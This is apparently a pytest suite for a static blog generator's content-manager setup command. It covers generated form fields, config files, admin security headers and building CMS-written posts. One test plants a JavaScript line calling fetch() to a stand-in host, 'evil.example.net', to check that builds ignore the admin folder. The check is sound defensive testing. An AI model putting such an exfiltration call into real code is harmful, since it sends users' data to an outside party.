"""The configuration of the content manager: made from the types of front matter, for /admin/ only."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
import yaml

from radblog.build import Request, build
from radblog.cli import main
from radblog.commands.cms import headers
from radblog.documents.cms_fields import fields_of
from radblog.documents.schema import schema_of
from radblog.plan.headers import Uses, headers_text
from radblog.serve.headers import headers_for, read_headers

KINDS = ("post", "case", "page", "person")
NOW = dt.datetime(2100, 1, 1, tzinfo=dt.UTC)
# What Sveltia CMS 0.221 wrote by the configuration that `cms init` makes, with a picture of its library.
WRITTEN = """\
---
title: When not to CT
status: published
date: 2024-01-29T23:10
translations: {}
role_at_publication: {}
unlisted: false
feed: true
kind: article
cover:
  src: /pictures/scan.png
  alt: A scan
---

Text.

![A scan](/pictures/scan.png)
"""


def run(*words: str) -> int:
    with pytest.raises(SystemExit) as stopped:
        main(list(words))
    return int(stopped.value.code or 0)


@pytest.fixture
def site(tmp_path) -> Path:
    assert run("new", "site", str(tmp_path / "site")) == 0
    return tmp_path / "site"


def init(site: Path, *more: str) -> int:
    return run("cms", "init", "--site", str(site), "--repo", "owner/name", *more)


def config(site: Path):
    return yaml.safe_load((site / "cms/admin/config.yml").read_text("utf-8"))


def every_field(fields):
    for field in fields:
        yield field
        yield from every_field(field.get("fields", ()))


@pytest.mark.parametrize("kind", KINDS)
def test_a_form_has_a_field_for_every_key_of_front_matter_but_the_kind(kind):
    keys = set(schema_of(kind)["properties"]) - {"type"}
    assert {field["name"] for field in fields_of(kind, {})} == keys | {"body"}


@pytest.mark.parametrize("kind", KINDS)
def test_every_field_is_one_that_the_content_manager_knows(kind):
    known = {"string", "text", "select", "relation", "datetime", "object", "list", "keyvalue", "number", "boolean",
             "image", "markdown"}  # fmt: skip
    for field in every_field(fields_of(kind, {"ctrad": "CT"})):
        assert field["widget"] in known
        assert field["label"]
        assert (field["widget"] == "select") == ("options" in field)
        assert not (field["widget"] == "object" and not field["fields"])


def test_what_must_be_written_is_asked_for_and_words_are_chosen():
    fields = {field["name"]: field for field in fields_of("case", {"ctrad": "Computed tomography"})}
    required = {name for name, field in fields.items() if field["required"]}
    assert required == {"title", "patient", "system", "rarity", "consent"}
    assert fields["rarity"]["options"] == ["common", "rare", "uncommon"]
    assert fields["system"]["multiple"] is True
    assert fields["hashtags"]["options"] == [{"label": "#ctrad: Computed tomography", "value": "ctrad"}]
    assert fields["delay_months"]["widget"] == "number"
    assert fields["updated"]["format"] == "YYYY-MM-DD"
    assert fields["date"]["format"] == "YYYY-MM-DDTHH:mm"


def test_init_writes_three_files_and_never_overwrites_what_somebody_changed(site, capsys):
    assert init(site) == 0
    written = {
        path.relative_to(site / "cms").as_posix() for path in (site / "cms").rglob("*") if path.is_file()
    }
    assert written == {"admin/index.html", "admin/config.yml", "_headers"}
    assert config(site)["backend"] == {"name": "github", "repo": "owner/name", "branch": "main"}
    mine = site / "cms/admin/config.yml"
    mine.write_text("mine", "utf-8")
    capsys.readouterr()
    assert init(site) == 0
    assert mine.read_text("utf-8") == "mine"
    assert "kept" in capsys.readouterr().out
    assert init(site, "--force", "--host", "gitlab", "--branch", "live") == 0
    assert config(site)["backend"] == {"name": "gitlab", "repo": "owner/name", "branch": "live"}


def test_hashtags_of_the_site_can_be_chosen(site):
    settings = site / "content/site.yaml"
    text = settings.read_text("utf-8").replace("hashtags:\n", "")
    settings.write_text(text + "\nhashtags:\n  nightshift: What happens at night\n", "utf-8")
    assert init(site) == 0
    [options] = {
        tuple(one["value"] for one in field["options"])
        for collection in config(site)["collections"]
        for field in collection["fields"]
        if field["name"] == "hashtags"
    }
    assert {"nightshift", "ctrad"} <= set(options)


def test_without_a_site_nothing_is_written(tmp_path):
    assert run("cms", "init", "--site", str(tmp_path), "--repo", "a/b") == 2
    assert list(tmp_path.iterdir()) == []


def test_no_build_reads_the_folder_of_the_content_manager(site):
    before = build(Request(site=site, output=site / "output", now=NOW))
    assert init(site) == 0
    (site / "cms/admin/sveltia-cms.js").write_text(
        "fetch('https://evil.example.net/' + 'Anna Example')", "utf-8"
    )
    after = build(Request(site=site, output=site / "output", now=NOW))
    assert not after.blocked
    assert after.problems == before.problems
    assert not (site / "output/admin").exists()


@pytest.mark.parametrize("host", ["github", "gitlab"])
def test_the_headers_of_admin_stand_behind_those_of_the_site_and_touch_nothing_else(host):
    own = headers_text("https://x.org/", Uses())
    blocks = read_headers(own + "\n" + headers(host))
    admin, page = (
        dict(headers_for("admin/index.html", blocks)),
        dict(headers_for("posts/a/index.html", blocks)),
    )
    assert page == dict(headers_for("posts/a/index.html", read_headers(own)))
    policy = dict(part.partition(" ")[::2] for part in admin["Content-Security-Policy"].split("; "))
    assert policy["script-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'"
    assert f"{host}" in policy["connect-src"]
    assert admin["X-Robots-Tag"] == "noindex"
    assert admin["X-Content-Type-Options"] == "nosniff"


def test_what_the_content_manager_wrote_builds(site):
    from PIL import Image

    (site / "content/posts/when-not-to-ct").mkdir(parents=True)
    (site / "content/posts/when-not-to-ct/index.md").write_text(WRITTEN, "utf-8")
    (site / "content/pictures").mkdir()
    Image.new("L", (64, 48), 60).save(site / "content/pictures/scan.png")
    report = build(Request(site=site, output=site / "output", now=NOW))
    assert not report.blocked, [(one.code, one.place.path) for one in report.problems]
    page = (site / "output/posts/when-not-to-ct/index.html").read_text("utf-8")
    assert 'datetime="2024-01-29T23:10:00+00:00"' in page
    assert 'alt="A scan"' in page
